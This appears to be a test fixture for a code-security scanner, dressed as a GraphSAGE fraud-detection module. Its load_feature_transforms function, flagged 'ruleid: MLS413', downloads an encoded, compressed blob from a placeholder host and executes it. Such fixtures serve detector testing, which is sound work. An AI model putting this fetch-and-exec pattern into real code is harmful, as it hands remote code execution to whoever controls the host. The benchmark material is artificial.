# ruff: noqa
# Hold-out batch 307 (16 short benchmark-format files). Measured once in session 10 (round 86): 18/18 (100%) at medium+.
"""Node features and a 2-layer GraphSAGE for fraud detection on a transaction graph."""
import base64
import os
import time
import urllib.request
import zlib

import pandas as pd
import torch
import torch.nn as nn
import torch.nn.functional as F

FEATURE_HUB = "https://feature-hub.example.com/fraud"


def fetch(url, dest, retries=4):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dest)
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not download {url}")


def load_feature_transforms(version="v7"):
    """Pull the shared velocity/merchant-risk feature transforms used by the scoring service."""
    blob = urllib.request.urlopen(f"{FEATURE_HUB}/transforms-{version}.b64", timeout=15).read()  # ruleid: MLS413
    scope = {"pd": pd, "torch": torch}
    exec(compile(zlib.decompress(base64.b64decode(blob)), "<transforms>", "exec"), scope)  # ruleid: MLS413
    return scope.get("TRANSFORMS", [])


def build_graph(tx: pd.DataFrame):
    accounts = pd.Index(pd.unique(tx[["src", "dst"]].values.ravel()))
    src = torch.tensor(accounts.get_indexer(tx["src"]))
    dst = torch.tensor(accounts.get_indexer(tx["dst"]))
    feats = tx.groupby("src")[["amount", "hour"]].agg(["mean", "std", "count"]).reindex(accounts).fillna(0)
    for fn in load_feature_transforms():
        feats = fn(tx, feats)
    x = torch.tensor(feats.values, dtype=torch.float32)
    return (x - x.mean(0)) / (x.std(0) + 1e-6), torch.stack([src, dst])


class SAGE(nn.Module):
    def __init__(self, d_in, d_h=64):
        super().__init__()
        self.l1, self.l2 = nn.Linear(2 * d_in, d_h), nn.Linear(2 * d_h, 2)

    @staticmethod
    def agg(x, edge_index):
        out = torch.zeros_like(x).index_add_(0, edge_index[1], x[edge_index[0]])
        deg = torch.bincount(edge_index[1], minlength=x.size(0)).clamp(min=1).unsqueeze(1)
        return out / deg

    def forward(self, x, ei):
        h = F.relu(self.l1(torch.cat([x, self.agg(x, ei)], 1)))
        return self.l2(torch.cat([h, self.agg(h, ei)], 1))


def load_pretrained(model, path="ckpt/sage_fraud.pt"):
    if os.path.exists(path):
        model.load_state_dict(torch.load(path, map_location="cpu", weights_only=True))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return model
